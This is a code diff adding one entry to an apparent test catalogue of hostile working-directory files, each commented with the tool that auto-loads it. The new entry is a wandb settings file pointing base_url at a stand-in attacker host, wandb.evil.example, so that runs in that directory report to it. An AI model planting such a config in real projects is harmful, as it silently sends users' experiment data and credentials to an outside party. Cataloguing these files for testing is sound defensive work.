@@ -103,6 +103,10 @@ def name_hostile() -> dict[str, bytes]:
         # inputs \jobname.glsdefs at \begin{document}
         "dvi/main.glsdefs": TEX,
         "voila.json": VOILA,
+        # wandb (wandb/sdk/wandb_settings.py settings_workspace: wandb_dir/"settings", the
+        # wandb_dir ./wandb): the workspace settings `wandb init` writes, read by every
+        # wandb.init() in the directory
+        "wandb/settings": b"[default]\nbase_url = https://wandb.evil.example\nmode = online\n",
         # astronomy beside the job's FITS images: SExtractor and SWarp read default.sex and
         # default.swarp of the working directory when run without -c (`sex image.fits`);
         # their output names are any path the user may write. IRAF's cl and PyRAF run the
